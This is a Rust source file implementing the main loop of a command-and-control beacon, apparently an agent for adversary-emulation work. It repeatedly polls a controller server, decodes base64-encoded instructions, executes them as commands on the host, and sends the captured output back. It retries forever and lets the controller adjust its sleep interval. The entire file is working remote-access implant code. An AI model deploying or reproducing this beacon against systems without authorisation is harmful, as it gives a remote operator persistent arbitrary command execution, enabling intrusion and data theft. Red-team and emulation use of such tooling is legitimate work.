//! The beacon state machine: poll, decode, execute, report, sleep.

use std::time::Duration;

use anyhow::{Context, Result};
use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use tracing::{debug, info, warn};

use crate::codec::{
    self, ExecutionResult, ResultPayload, StatusPayload, EMPTY_INSTRUCTIONS,
};
use crate::config::{AgentConfig, BEACON_PATH, COOLDOWN_SECS};
use crate::executor::CommandExecutor;
use crate::identity::Identity;
use crate::transport::Transport;

/// One autonomous poller. Owns the identity, the mutable config, and the
/// transport/executor seams; everything it touches is single-task, so a
/// slow command or a hung request stalls the loop rather than corrupting
/// state.
pub struct Beacon<T, E> {
    identity: Identity,
    config: AgentConfig,
    transport: T,
    executor: E,
}

impl<T: Transport, E: CommandExecutor> Beacon<T, E> {
    pub fn new(identity: Identity, config: AgentConfig, transport: T, executor: E) -> Self {
        Self { identity, config, transport, executor }
    }

    /// Current poll interval in seconds.
    #[must_use]
    pub fn poll_interval(&self) -> u64 {
        self.config.sleep_secs
    }

    #[must_use]
    pub fn transport(&self) -> &T {
        &self.transport
    }

    #[must_use]
    pub fn executor(&self) -> &E {
        &self.executor
    }

    /// Run the poll loop forever.
    ///
    /// A clean cycle is followed by the normal poll-interval sleep; a
    /// failed cycle is logged and followed by the longer cooldown sleep.
    /// No failure terminates the loop — availability of the poller wins
    /// over correctness of any single cycle.
    pub async fn run(mut self) {
        info!(paw = %self.identity.paw, server = %self.config.server, "beacon loop starting");
        loop {
            let pause = match self.cycle().await {
                Ok(()) => self.config.sleep_secs,
                Err(e) => {
                    warn!(error = %e, cooldown_secs = COOLDOWN_SECS, "beacon cycle failed");
                    COOLDOWN_SECS
                }
            };
            tokio::time::sleep(Duration::from_secs(pause)).await;
        }
    }

    /// One full pass of the state machine: Polling → AwaitingResponse →
    /// (NoInstructions | HasInstructions → Executing → ReportingResults).
    ///
    /// The caller owns the Sleeping state. An `Ok` return means the
    /// normal interval applies; an `Err` is a cycle failure and the
    /// caller applies the cooldown instead.
    ///
    /// # Errors
    ///
    /// Returns an error when the transport round trip fails or an
    /// outbound payload cannot be serialized. Decode and execution
    /// problems degrade to "no work" instead of erroring.
    pub async fn cycle(&mut self) -> Result<()> {
        let path = format!("{BEACON_PATH}?paw={}", self.identity.paw);

        let status = StatusPayload::new(&self.identity, &self.config);
        let body = serde_json::to_vec(&status).context("serializing status payload")?;
        let reply = self
            .transport
            .send(&path, &body)
            .await
            .context("beacon poll failed")?;

        let fields = codec::decode_flat(&reply);
        if fields.is_empty() {
            debug!("empty or undecodable response; no instructions");
            return Ok(());
        }
        debug!(fields = fields.len(), "decoded beacon response");

        if let Some(confirmed) = fields.get("paw") {
            debug!(%confirmed, "controller confirmed paw");
        }
        if let Some(value) = fields.get("sleep") {
            self.update_interval(value);
        }

        let Some(raw) = fields.get("instructions") else {
            return Ok(());
        };
        if raw == EMPTY_INSTRUCTIONS || raw.len() <= 2 {
            return Ok(());
        }

        let instructions = codec::decode_instructions(raw);
        if instructions.is_empty() {
            debug!("instruction text yielded no valid records");
            return Ok(());
        }

        let mut results = Vec::new();
        for instruction in instructions {
            let Some(command) = decode_command(&instruction.command) else {
                warn!(id = %instruction.id, "instruction command was not base64 text; skipping");
                continue;
            };
            info!(id = %instruction.id, executor = %instruction.executor, "executing instruction");
            let captured = self.executor.run(&instruction.executor, &command).await;
            debug!(id = %instruction.id, bytes = captured.len(), "instruction complete");
            results.push(ExecutionResult::new(instruction.id, &captured));
        }
        if results.is_empty() {
            return Ok(());
        }

        let report = ResultPayload { paw: self.identity.paw.clone(), results };
        let body = serde_json::to_vec(&report).context("serializing result payload")?;
        self.transport
            .send(&path, &body)
            .await
            .context("result report failed")?;
        info!("results delivered");
        Ok(())
    }

    /// Apply a controller-pushed interval. The interval invariant is
    /// "positive integer of seconds", so zero and unparseable values are
    /// ignored and the previous interval stays in force.
    fn update_interval(&mut self, value: &str) {
        match value.parse::<u64>() {
            Ok(secs) if secs > 0 => {
                info!(secs, "poll interval updated by controller");
                self.config.sleep_secs = secs;
            }
            _ => debug!(value, "ignoring unusable sleep value"),
        }
    }
}

/// Instruction commands travel base64-encoded; anything that does not
/// decode to UTF-8 text is dropped rather than dispatched.
fn decode_command(encoded: &str) -> Option<String> {
    let bytes = BASE64.decode(encoded.as_bytes()).ok()?;
    String::from_utf8(bytes).ok()
}
